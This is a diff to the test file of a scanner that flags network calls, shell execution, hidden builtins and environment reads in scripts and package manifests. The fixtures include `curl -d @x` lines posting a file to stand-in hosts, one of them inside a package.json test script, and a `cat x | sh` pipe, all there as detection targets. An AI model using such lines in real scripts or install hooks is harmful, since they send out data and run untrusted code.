@@ -193,6 +193,32 @@ CASES = [
         "#!/usr/bin/env bash\ncurl -d @x https://evil.example\n",
         [(2, "network", "`curl` opens a connection", True)],
     ),
+    (
+        SH,
+        "#!/bin/sh\ncat x | \\ \n  sh\n",
+        [(2, "execution", "`sh` runs what is computed or fetched", True)],
+    ),
+    (
+        PY,
+        "import os\n\ngetattr(os, f())\n",
+        [(3, "execution", "`a computed name of os` hides what it uses", True)],
+    ),
+    (
+        PY,
+        "x = 1\n__builtins__\n",
+        [(2, "execution", "`__builtins__` hides what it uses", True)],
+    ),
+    (
+        SH,
+        'echo "a\n # $PYPI"\n',
+        [(2, "environment", "`PYPI` is read from the environment", True)],
+    ),
+    (MK, "a:\n\techo (\n# $PYPI\n", []),
+    (
+        PY,
+        "import builtins, os\nbuiltins.getattr(os, 'environ').items()\n",
+        [(2, "environment", "`os.environ` is read whole", True)],
+    ),
 ]
 
 
@@ -205,6 +231,14 @@ def test_a_sign_is_told_with_its_line_and_its_weight(path, text, signs):
     ]
 
     assert signs == found
+
+
+@pytest.mark.parametrize("rest", ["[0]" * 800, ".b" * 800, "()" * 800, "['b'].c(0)" * 300])
+def test_an_expression_without_end_breaks_nothing(rest):
+    """What nobody would write is resolved to a depth."""
+    text = f"import os\nx = a{rest}\nprint(os.environ)\n"
+
+    assert [3] == [finding.line for finding in find(PY, text)]
 
 
 def test_a_finding_names_the_job_and_what_it_could_reach():
@@ -229,5 +263,8 @@ def test_what_a_file_does_already_only_advises():
     again = find(PY, f"{text}print(os.environ)\n", text)
     many = find(PY, f"import os\n{'print(os.environ)' + chr(10)}" * 12)
 
+    package = '{\n  "scripts": {\n    "test": "curl -d @x https://e.example"\n  }\n}\n'
+
     assert [(3, False)] == [(finding.line, finding.blocks) for finding in again]
+    assert [] == find(PKG, package.replace("{\n", '{\n  "private": true,\n', 1), package)
     assert 8 == len(many)
